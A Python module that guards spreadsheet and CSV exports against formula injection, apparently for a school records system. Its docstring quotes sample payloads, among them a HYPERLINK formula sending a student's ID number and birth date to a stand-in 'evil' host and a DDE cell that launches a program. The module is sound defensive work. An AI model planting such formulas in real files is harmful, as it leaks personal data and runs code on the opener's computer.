"""Text written into a spreadsheet or a CSV file a person opens: always text, never a formula.

Why: a student's title such as `=HYPERLINK("http://evil/?"&A2&B2,"點此查看")` written as it stands
becomes a live formula in the staff member's Excel (openpyxl itself stores any string starting
with `=` as a formula, and `#N/A` as an error value); a click sends the row's ID number and birth
date elsewhere, and a `=cmd|' /C calc'!A0` (DDE) cell runs a program. So every writer of a
workbook or a CSV file goes through this module (CSV/XLSX injection, OWASP):

- XLSX (openpyxl): a `str` value becomes a string cell (`data_type 's'`), stored as text whatever
  it starts with; a value starting with a formula trigger also gets Excel's quote prefix, so that
  editing the cell in Excel keeps it text. Numbers and dates stay numbers and dates.
- CSV: a `str` value starting with `=`, `+`, `-`, `@`, TAB or CR gets one leading `'` (OWASP), so
  Excel and LibreOffice show it as text; the csv module then quotes embedded commas and quotes.
"""
from __future__ import annotations

import codecs
import csv
import io
from typing import Iterable

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

# What makes Excel, LibreOffice or Google Sheets read a cell as a formula (OWASP CSV injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CSV_ESCAPE = "'"


def starts_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def text_cell(cell: Cell, value: object) -> Cell:
    """Set `cell` to `value`; a `str` stays a string cell whatever it starts with."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # after the value: openpyxl's setter made '=…' a formula, '#N/A' an error
        if starts_formula(value):
            cell.quotePrefix = True
    return cell


def append_text_row(sheet: Worksheet, values: Iterable[object]) -> None:
    """Append one row to `sheet`, each value through `text_cell`."""
    sheet.append([text_cell(Cell(sheet), value) for value in values])


def csv_text(value: object) -> object:
    """One CSV cell: a `str` starting with a formula trigger gets the leading `'`; anything else
    (numbers, dates, other text) is returned as it is."""
    return CSV_ESCAPE + value if starts_formula(value) else value


def csv_bytes(rows: Iterable[Iterable[object]]) -> bytes:
    """A CSV file as Excel opens it: UTF-8 with a BOM (so the Chinese reads right), CRLF, every
    cell through `csv_text`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow([csv_text(value) for value in row])
    return codecs.BOM_UTF8 + out.getvalue().encode("utf-8")


def csv_template(labels: Iterable[str]) -> bytes:
    """A file a clerk fills in: the header row alone."""
    return csv_bytes([list(labels)])
